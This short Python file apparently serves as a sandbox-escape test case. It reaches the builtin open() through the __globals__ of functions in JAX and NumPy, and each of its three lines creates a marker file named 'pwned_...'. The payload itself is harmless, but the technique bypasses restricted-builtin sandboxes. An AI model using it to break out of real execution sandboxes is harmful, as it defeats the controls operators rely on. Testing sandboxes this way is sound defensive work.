"""file: a library's function has its module's names, and they lead to everything."""

import jax
import jax.numpy as jnp
import numpy as np

x = jnp.array.__globals__["__builtins__"]["open"]("pwned_globals_of_a_function", "w")
y = jax.jit.__globals__["__builtins__"]["open"]("pwned_globals_of_a_function_jit", "w")
z = np.vectorize.__init__.__globals__["__builtins__"]["open"]("pwned_globals_of_a_function_numpy", "w")
